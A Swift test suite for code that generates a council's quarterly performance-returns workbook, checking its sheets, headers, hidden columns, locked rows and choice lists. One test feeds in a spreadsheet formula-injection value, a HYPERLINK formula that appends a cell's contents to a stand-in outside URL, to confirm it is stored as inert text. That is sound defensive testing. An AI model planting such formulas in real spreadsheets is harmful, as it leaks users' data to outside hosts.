import CorporatePlan
import Documents
import Testing

@testable import Reports

@Suite("A person's returns are a workbook that asks for what is owed and holds the rest fast")
struct ReturnsWorkbookTests {
  private func read() throws -> SourceDocument { try SourceDocument(ReturnsDesk().workbook.bytes(), named: "r.xlsx") }

  @Test(
    "one sheet of figures and one of actions, each with a title and one header row, behind a page that explains them")
  func sheets() throws {
    let read = try read()
    #expect(
      read.tables.map(\.locator) == [.sheet("How to"), .sheet("Your figures"), .sheet("Your actions"), .sheet("Lists")])
    let figures = read.tables[1]
    #expect(figures.rows[0].cells.map(\.text) == ["Figures to return for Q2 2025/26"])
    #expect(
      figures.rows[1].cells.map(\.text) == [
        "Indicator", "Unit", "Figure is for", "Last figure", "Last figure was for", "Target", "Return",
        "Figure this time", "Numerator", "Denominator", "Reason for no figure", "State of the figure",
        "Commentary (public)", "What is being done (public)", "Note (not published)", "row (do not change)",
        "revision (do not change)", "check (do not change)",
      ])
    #expect(figures.rows.map(\.isHeader).count { $0 } == 1)
    let hidden = read.notes.filter { $0.matter == .hidden }.map(\.locator.description)
    #expect(
      hidden == [
        "sheet 'Your figures', columns P to R", "sheet 'Your actions', columns L to N", "sheet 'Lists'",
      ])
  }

  @Test("a row shows the last figure with its period, the target, and what was entered so far")
  func row() throws {
    let desk = ReturnsDesk()
    let (sheet, row) = try desk.place("homeless")
    let cells = desk.workbook.sheets[sheet].rows[row]
    #expect(
      cells.prefix(8) == [
        .text("Households kept from homelessness"), .text("%"), .text("Q2 2025/26"),
        .figure("55", .init(.percent, decimals: 0)), .text("Q1 2025/26"), .figure("52", .init(.percent, decimals: 0)),
        .text("Entered"), .entry(""),
      ])
    let whole = Workbook.FigureFormat(.number, decimals: 0)
    #expect(
      cells[8...11] == [
        .figure("61", whole, isEntry: true), .figure("98", whole, isEntry: true), .entry(""), .entry("final"),
      ])
    #expect(try desk.cell(.reason, "walks") == .entry("no activity"))
    #expect(try desk.cell(.numerator, "missed-bins") == .empty, "a plain number has no two parts")
    #expect(try desk.cell(.forecast, "rivers") == .dayEntry("2025-12-12"))
  }

  @Test("figures stand to the right, those too that are typed into empty cells; words do not")
  func right() {
    let right = ReturnsDesk().workbook.sheets.map { $0.columns.filter(\.takesFigures).map(\.name) }
    #expect(right[0] == ["Figure this time", "Numerator", "Denominator"])
    #expect(right[1].count == 1, "per cent")
  }

  @Test("a return that is locked is shown, with the reason, and can't be filled in")
  func locked() throws {
    var vale = ThornburyVale()
    let day = ReturnsDesk.today
    vale.records.add(Waiver(RecordID("indicator", "calls"), in: ReturnsDesk.quarter, reason: "The lines were moved."))
    let desk = ReturnsDesk(vale.book)
    #expect(try desk.cell(.value, "calls") == .figure("79", .init(.percent, decimals: 0)))
    #expect(try desk.cell(.value, "wait") == .figure("165", .init(.number, decimals: 0), isEntry: true))
    let (sheet, row) = try desk.place("calls")
    let refusal = try #require(
      vale.book.returnRow(of: RecordID("indicator", "calls"), in: ReturnsDesk.quarter, on: day)?.refusal)
    #expect(desk.workbook.sheets[sheet].rows[row].contains(.text(refusal)))
  }

  @Test("a judgement is chosen from the words of the council's own rule")
  func judgements() throws {
    let sheet = ReturnsDesk().workbook.sheets[1]
    let judged = try #require(sheet.columns.first { $0.name == ReturnField.judged.heading })
    #expect(judged.choices == ["green", "amber", "red"])
    let state = try #require(ReturnsDesk().workbook.sheets[0].columns.first { $0.name == ReturnField.state.heading })
    #expect(state.choices == Actual.State.allCases.map(\.rawValue))
  }

  @Test("words that look like a formula are text in it")
  func injection() throws {
    var vale = ThornburyVale()
    let words = #"=HYPERLINK("https://example.org/?"&A1,"click")"#
    vale.records.add(
      Commentary(
        id: "risky", subject: RecordID("indicator", "wait"), period: ReturnsDesk.quarter, purpose: .variance,
        text: words))
    let desk = ReturnsDesk(vale.book)
    #expect(try desk.cell(.commentary, "wait") == .entry(words))
    #expect(try desk.handedIn(to: vale.book).unchanged.count == desk.workbook.sheets.map(\.rows.count).reduce(0, +))
  }

  @Test("words too long for a cell are left to the web")
  func long() throws {
    var vale = ThornburyVale()
    vale.records.add(
      Commentary(
        id: "long", subject: RecordID("indicator", "wait"), period: ReturnsDesk.quarter, purpose: .note,
        text: String(repeating: "calls ", count: 6000)))
    let desk = ReturnsDesk(vale.book)
    #expect(try desk.cell(.note, "wait") == .empty)
    #expect(try desk.handedIn(to: vale.book).revisions == [])
  }
}
